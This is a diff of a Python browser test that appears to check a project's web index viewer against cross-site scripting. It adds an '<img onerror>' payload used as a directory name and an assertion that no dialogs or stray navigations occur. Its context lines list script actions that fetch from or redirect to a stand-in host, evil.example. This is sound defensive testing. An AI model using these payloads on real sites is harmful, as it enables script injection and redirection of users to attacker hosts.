@@ -39,6 +39,7 @@ MISSING = ""
 if sync_playwright is None or CHROMIUM is None:
     MISSING = "the page is tested in a browser: apt-get install chromium; pip install 'fusemix[dev]'"
 
+HOSTILE = "<img src=x onerror=alert(1)>"  # name of an index
 ACTIONS = ("window.__xss=1", "alert(1)", "fetch('//evil.example/1')", "top.location='//evil.example/2'")
 TAGS = """
 <script>{a}</script>
@@ -238,6 +239,12 @@ class Watch:
         context.on("console", self._line)
         context.on("weberror", lambda error: self.lines.append(str(error.error)))
 
+    @property
+    def quiet(self) -> bool:
+        """Nothing of all that; an assertion that fails shows what."""
+        assert (self.dialogs, self.elsewhere, self.lines) == ([], [], [])
+        return True
+
     def _dialog(self, dialog: Any) -> None:
         self.dialogs.append(dialog.message)
         with suppress(Error):  # its page may be gone
@@ -381,8 +388,8 @@ def main() -> None:
     strings = payloads()[:: 9 if given.small else 1]
     with tempfile.TemporaryDirectory() as name, browser() as chromium:
         index = make_index(Path(name), 60)
-        hostile_index(fm.open_index(index).space, strings).save(Path(name) / "hostile")
-        with Server(Path(name) / "hostile") as server:
+        hostile_index(fm.open_index(index).space, strings).save(Path(name) / HOSTILE)
+        with Server(Path(name) / HOSTILE) as server:
             page = chromium.new_page()
             torture(page, Watch(page.context, server.address), strings)
             careless = chromium.new_page()
